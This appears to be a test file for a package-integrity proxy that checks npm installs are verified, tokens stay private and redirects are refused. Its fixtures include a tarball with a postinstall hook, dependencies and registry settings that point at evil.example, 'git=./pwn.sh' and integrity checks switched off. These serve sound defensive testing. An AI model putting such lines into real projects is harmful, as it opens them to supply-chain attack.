// `proxy -- <command>` with the machine's npm: what gets into the project, what is told, and how it exits.
import assert from 'node:assert/strict';
import { mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { delimiter, dirname, join } from 'node:path';
import { after, before, beforeEach, describe, it } from 'node:test';

import { FakeLog, type Outcome } from '../../fixtures/fake-log.ts';
import { makeTarball } from '../../fixtures/tarballs/generator.ts';
import { encodeHex } from '../../verifier/encoding.ts';
import { exists } from '../npm/lockfile.ts';
import { EXIT } from '../output/exit-codes.ts';

const EVIL = makeTarball({
  name: 'alpha',
  version: '1.0.0',
  files: { 'index.js': 'evil()' },
  packageJson: { scripts: { postinstall: "node -e \"require('fs').writeFileSync('canary','')\"" } },
});

describe('proxy', () => {
  let fake: FakeLog;
  let alpha: Uint8Array;
  /** A registry of somebody else, which has the evil package. It counts who comes. */
  let other: Server;
  let otherUrl = '';
  let visits = 0;

  before(async () => {
    fake = await FakeLog.start();
    alpha = await fake.publish({ name: 'alpha', version: '1.0.0' });
    await fake.publish({
      name: '@acme/beta',
      version: '2.0.0',
      packageJson: { dependencies: { alpha: '^1.0.0' } },
    });
    await fake.publish({
      name: 'urly',
      version: '1.0.0',
      packageJson: { dependencies: { alpha: 'http://evil.example/alpha.tgz' } },
    });
    await fake.publish({
      name: 'hopeful',
      version: '1.0.0',
      packageJson: { optionalDependencies: { nobody: '^1.0.0' } },
    });
    other = createServer((_request, response) => {
      visits++;
      response.end(Buffer.from(EVIL));
    });
    await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
    otherUrl = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
  });
  after(async () => {
    other.closeAllConnections();
    await new Promise((resolve) => other.close(resolve));
    await fake.stop();
  });
  beforeEach(async () => {
    visits = 0;
    await rm(join(fake.home, '.cache'), { recursive: true, force: true });
    await rm(fake.project, { recursive: true, force: true });
    await mkdir(fake.project);
    await fake.configure();
    await writeFile(join(fake.project, 'package.json'), '{"name":"app","version":"1.0.0"}\n');
    for (const replica of fake.replicas) replica.misbehave = undefined;
  });

  const run = async (...command: readonly string[]): Promise<Outcome> =>
    await fake.run(['proxy', '--', ...command]);
  const isInstalled = async (name: string): Promise<boolean> =>
    await exists(join(fake.project, 'node_modules', name));

  it('lets npm choose among verified versions, and leaves no address of its own', async () => {
    const { code, stdout, stderr } = await run('npm', 'install', '@acme/beta');
    assert.equal(code, EXIT.verified, stdout + stderr);
    assert.match(stdout, /2 verified, 0 problems/);
    assert.ok(await isInstalled('alpha'), 'alpha came along');
    const lock = await readFile(join(fake.project, 'package-lock.json'), 'utf8');
    assert.doesNotMatch(lock, /127\.0\.0\.1/);
    assert.equal((await fake.run(['verify'])).code, EXIT.verified);
  });

  it('leaves none either when npm is told to write addresses down', async () => {
    const argv = ['proxy', '--upstream', 'https://registry.example', '--', 'npm', 'install'];
    const { code, stderr } = await fake.run([
      ...argv,
      'alpha',
      '--no-omit-lockfile-registry-resolved',
    ]);
    assert.equal(code, EXIT.verified, stderr);
    const lock = await readFile(join(fake.project, 'package-lock.json'), 'utf8');
    assert.match(lock, /"resolved": "https:\/\/registry\.example\/alpha\/-\/alpha-1\.0\.0\.tgz"/);
  });

  it('says itself what npm shows in passing, and exits by it', async () => {
    const { code, stdout, stderr } = await run('npm', 'install', 'nobody');
    assert.equal(code, EXIT.notLogged, stdout + stderr);
    assert.match(stderr, /npm error.*bftpkg BP5003: nobody: not in the log/);
    assert.match(stdout, /BP5003.*nobody: not in the log/);
    assert.match(stdout + stderr, /BP7004.*npm ended with 1/);
  });

  it('exits by the refusal although npm drops an optional package and succeeds', async () => {
    for (const replica of fake.replicas) {
      replica.misbehave = (request, response) => {
        if (request.path !== `/v1/artifacts/${encodeHex(alpha)}`) return false;
        response.end(Buffer.from(EVIL));
        return true;
      };
    }
    const document = { name: 'app', version: '1.0.0', optionalDependencies: { alpha: '1.0.0' } };
    await writeFile(join(fake.project, 'package.json'), JSON.stringify(document));
    const { code, stdout, stderr } = await run('npm', 'install');
    assert.equal(code, EXIT.tampered, stdout + stderr);
    assert.equal(await isInstalled('alpha'), false);
  });

  it('notes an optional package that is proven to be nowhere', async () => {
    const { code, stdout, stderr } = await run('npm', 'install', 'hopeful');
    assert.equal(code, EXIT.verified, stdout + stderr);
    assert.match(stdout + stderr, /warning\[BP5003\] nobody: not in the log/);
  });

  it('keeps npm from fetching by address, in a package as in the project', async () => {
    const { code, stdout, stderr } = await run('npm', 'install', 'urly');
    assert.notEqual(code, EXIT.verified, stdout + stderr);
    assert.equal(await isInstalled('alpha'), false);
    const dependencies = { alpha: `${otherUrl}/alpha.tgz` };
    const document = { name: 'app', version: '1.0.0', dependencies };
    await writeFile(join(fake.project, 'package.json'), JSON.stringify(document));
    const second = await run('npm', 'install');
    assert.notEqual(second.code, EXIT.verified, second.stdout + second.stderr);
    assert.equal(await isInstalled('alpha'), false);
    assert.equal(visits, 0);
    // The same without us, to see that the attack is one.
    const free = await fake.run(['proxy', '--', process.execPath, '-e', CONTROL]);
    assert.equal(free.code, EXIT.verified, free.stderr);
    assert.equal(visits, 1, 'without the settings npm fetches it');
  });

  // npm without any of the settings that it gets here.
  const CONTROL = `
    const env = Object.fromEntries(
      Object.entries(process.env).filter(([name]) => !/proxy|npm_config_/i.test(name)),
    );
    const args = ['install', '--ignore-scripts', '--no-audit', '--allow-remote=all', '--cache=.free'];
    const { status } = require('node:child_process').spawnSync('npm', args, { env, stdio: 'inherit' });
    process.exitCode = status;
  `;

  it('takes lockfiles of other registries for what they name, not for where', async () => {
    await fake.lock([
      {
        name: 'alpha',
        version: '1.0.0',
        sha512: alpha,
        fields: { resolved: `${otherUrl}/deep/alpha/-/alpha-1.0.0.tgz` },
      },
    ]);
    const { code, stdout, stderr } = await run('npm', 'ci');
    assert.equal(code, EXIT.verified, stdout + stderr);
    assert.ok(await isInstalled('alpha'), 'alpha is installed');
    assert.equal(visits, 0);
  });

  it('brings scopes with a registry of their own back, and tells no token to anybody', async () => {
    await writeFile(join(fake.project, '.npmrc'), `@acme:registry=${otherUrl}/\n`);
    await writeFile(join(fake.home, '.npmrc'), '//127.0.0.1/:_authToken=secret-token\n');
    const { code, stdout, stderr } = await run('npm', 'install', '@acme/beta');
    await rm(join(fake.home, '.npmrc'));
    assert.equal(code, EXIT.verified, stdout + stderr);
    assert.match(stderr, /no effect here: @acme:registry/);
    assert.equal(visits, 0);
  });

  it('tells of an attempt to leave by another program as well', async () => {
    const script = `
      const { request } = require('node:http');
      const { hostname, port } = new URL(process.env.HTTP_PROXY);
      request({ hostname, port, path: 'http://evil.example/x' }, (r) => r.resume()).end();
    `;
    const { code, stderr } = await run(process.execPath, '-e', script);
    assert.equal(code, EXIT.policy, stderr);
    assert.match(stderr, /BP6015.*http:\/\/evil\.example\/x/);
  });

  it('hands on that a command failed, and how', async () => {
    const { code, stderr } = await run(process.execPath, '-e', 'process.exitCode = 7');
    assert.equal(code, EXIT.inconclusive);
    assert.match(stderr, /BP7004 .*ended with 7/);
    const none = await run('no-such-program-here');
    assert.equal(none.code, EXIT.usage, none.stderr);
    assert.match(none.stderr, /cannot be started: no such program on PATH \(ENOENT\)/);
  });

  it('ends its stores with the run, unless they are to be kept', async () => {
    const script = "console.log('store', process.env.npm_config_cache)";
    const cacheOf = ({ stderr }: Outcome): string => /^store (.*)$/m.exec(stderr)?.[1] ?? '';
    const first = cacheOf(await run(process.execPath, '-e', script));
    assert.notEqual(first, '');
    assert.equal(await exists(dirname(first)), false);
    const argv = ['proxy', '--stores', 'kept', '--', process.execPath, '-e', script];
    const second = cacheOf(await fake.run(argv));
    assert.equal(dirname(second), join(fake.project, 'kept'));
    assert.ok(await exists(join(fake.project, 'kept', 'user.npmrc')), 'it is still there');
  });

  it('takes its own address out of lockfiles again', async () => {
    const before = [
      '# yarn lockfile v1',
      '',
      'old@^1.0.0:',
      '  version "1.0.0"',
      `  resolved "${otherUrl}/old/-/old-1.0.0.tgz#abc"`,
      '',
    ].join('\n');
    await writeFile(join(fake.project, 'yarn.lock'), before);
    const script = `
      const { registry } = { registry: process.env.npm_config_registry };
      const fs = require('node:fs');
      const text = fs.readFileSync('yarn.lock', 'utf8').replace(/"http:..[^/]*./, '"' + registry);
      const added = ['new@^1.0.0:', '  version "1.0.0"', '  resolved "' + registry + 'new/-/new-1.0.0.tgz#undefined"', ''];
      fs.writeFileSync('yarn.lock', text + added.join('\\n'));
      fs.writeFileSync('bun.lock', '{"packages":{"a": ["a@1.0.0", "' + registry + 'a/-/a-1.0.0.tgz", {}, "sha512-x"]}}');
    `;
    const argv = ['proxy', '--upstream', 'https://registry.example/npm', '--'];
    const { code, stderr } = await fake.run([...argv, process.execPath, '-e', script]);
    assert.equal(code, EXIT.verified, stderr);
    const text = await readFile(join(fake.project, 'yarn.lock'), 'utf8');
    const home = 'https://registry.example/npm/';
    assert.equal(
      text,
      `${before}new@^1.0.0:\n  version "1.0.0"\n  resolved "${home}new/-/new-1.0.0.tgz"\n`,
    );
    const bun = await readFile(join(fake.project, 'bun.lock'), 'utf8');
    assert.equal(bun, '{"packages":{"a": ["a@1.0.0", "", {}, "sha512-x"]}}');
  });

  it('keeps stdout for the report', async () => {
    const script = "console.log('from the command')";
    const { stdout, stderr } = await fake.run([
      '--json',
      'proxy',
      '--',
      process.execPath,
      '-e',
      script,
    ]);
    assert.equal((JSON.parse(stdout) as { verdict: string }).verdict, 'done');
    assert.match(stderr, /from the command/);
  });

  const settings: readonly (readonly [string, string])[] = [
    ['.npmrc', 'noproxy=evil.example\n'],
    ['.npmrc', 'git=./pwn.sh\n'],
    ['.yarnrc.yml', 'nodeLinker: node-modules\nnetworkSettings:\n  "*":\n    httpProxy: ""\n'],
    ['.yarnrc.yml', '"networkSettings": {}\n'],
    ['.yarnrc.yml', '{networkSettings: {}}\n'],
    ['.yarnrc.yml', '"network\\u0053ettings": {}\n'],
    ['.yarnrc.yml', '? networkSettings\n: {}\n'],
    ['.yarnrc', '--registry "http://evil.example"\n'],
    ['.yarnrc', '"--install.registry" "http://evil.example"\n'],
    ['.yarnrc', 'yarn-offline-mirror "./tarballs"\n'],
    ['.yarnrc', 'a, yarn-offline-mirror "./tarballs"\n'],
    ['.npmrc', 'yarn-offline-mirror=./tarballs\n'],
    ['.npmrc', 'store-dir=./store\n'],
    ['.npmrc', 'virtualStoreDir=./store\n'],
    ['.npmrc', 'verify-store-integrity=false\n'],
    ['pnpm-workspace.yaml', 'noProxy: evil.example\n'],
    ...[
      'storeDir: ./store',
      'store-dir: ./store',
      'cacheDir: ./cache',
      'stateDir: ./state',
      'virtualStoreDir: ./store',
      'modulesDir: ./modules',
      'lockfileDir: ./other',
      'registry: http://evil.example',
      'verifyStoreIntegrity: false',
      "'@acme:registry': http://evil.example",
      'whatComesNext: 1',
    ].map((line) => ['pnpm-workspace.yaml', `packages:\n  - a\n${line}\n`] as const),
    ['pnpm-workspace.yaml', ' storeDir: ./store\n'],
    ['bunfig.toml', '[install.cache]\ndir = "./cache"\n'],
    ['bunfig.toml', '[install]\ncache = { dir = "./cache" }\n'],
  ];
  for (const [file, text] of settings) {
    it(`does not start where ${file} leads past it: ${JSON.stringify(text.slice(0, 30))}`, async () => {
      await writeFile(join(fake.project, file), text);
      const { code, stderr } = await run(process.execPath, '-e', '0');
      assert.equal(code, EXIT.policy, stderr);
      assert.match(stderr, /BP6003/);
    });
  }

  it('does not start where a folder above leads past it', async () => {
    const inner = join(fake.project, 'packages', 'one');
    await mkdir(inner, { recursive: true });
    await writeFile(join(inner, 'bftpkg.json'), await readFile(join(fake.project, 'bftpkg.json')));
    const argv = ['-C', inner, 'proxy', '--', process.execPath, '-e', '0'];
    assert.equal((await fake.run(argv)).code, EXIT.verified);
    for (const [file, text] of [
      ['.npmrc', 'yarn-offline-mirror=./tarballs\n'],
      ['pnpm-workspace.yaml', 'storeDir: ./store\n'],
    ] as const) {
      await writeFile(join(fake.project, file), text);
      const { code, stderr } = await fake.run(argv);
      assert.equal(code, EXIT.policy, stderr);
      assert.match(stderr, /BP6003/);
      await rm(join(fake.project, file));
    }
  });

  it('starts with what decides about the tree or says what is built', async () => {
    const text =
      "packages:\n  - '.'\ncatalog:\n  a: 1.0.0\nonlyBuiltDependencies:\n  - a\nnodeLinker: hoisted\n";
    await writeFile(join(fake.project, 'pnpm-workspace.yaml'), text);
    await writeFile(
      join(fake.project, '.npmrc'),
      'verify-store-integrity=true\nregistry=https://x\n',
    );
    const { code, stderr } = await run(process.execPath, '-e', '0');
    assert.equal(code, EXIT.verified, stderr);
  });

  // A repository can bring node_modules along, with a note in it that says that all is installed.
  const noShell = process.platform === 'win32';
  it('warns where a package manager installs and asks for nothing', { skip: noShell }, async () => {
    const bin = join(fake.project, 'bin');
    await mkdir(bin);
    await writeFile(join(bin, 'pnpm'), '#!/bin/sh\nexit 0\n', { mode: 0o755 });
    const env = { PATH: `${bin}${delimiter}${process.env['PATH'] ?? ''}` };
    for (const [words, isWarned] of [
      [['install', '--frozen-lockfile'], true],
      [['--silent', 'add', 'a'], true],
      [['run', 'build'], false],
    ] as const) {
      const { code, stdout, stderr } = await fake.run(['proxy', '--', 'pnpm', ...words], { env });
      assert.equal(code, EXIT.verified, stderr);
      assert.equal(/BP6016/.test(stdout + stderr), isWarned, stdout + stderr);
    }
  });

  it('names the code of the project that managers run', async () => {
    await writeFile(join(fake.project, '.pnpmfile.cjs'), '');
    await writeFile(
      join(fake.project, '.yarnrc.yml'),
      'plugins:\n  - ./x.cjs\nyarnPath: ./y.cjs\n',
    );
    const { stderr } = await run(process.execPath, '-e', '0');
    assert.match(stderr, /\.pnpmfile\.cjs runs code of the project/);
    assert.match(stderr, /\.yarnrc\.yml: plugins runs code/);
    assert.match(stderr, /no effect here: yarnPath/);
  });
});
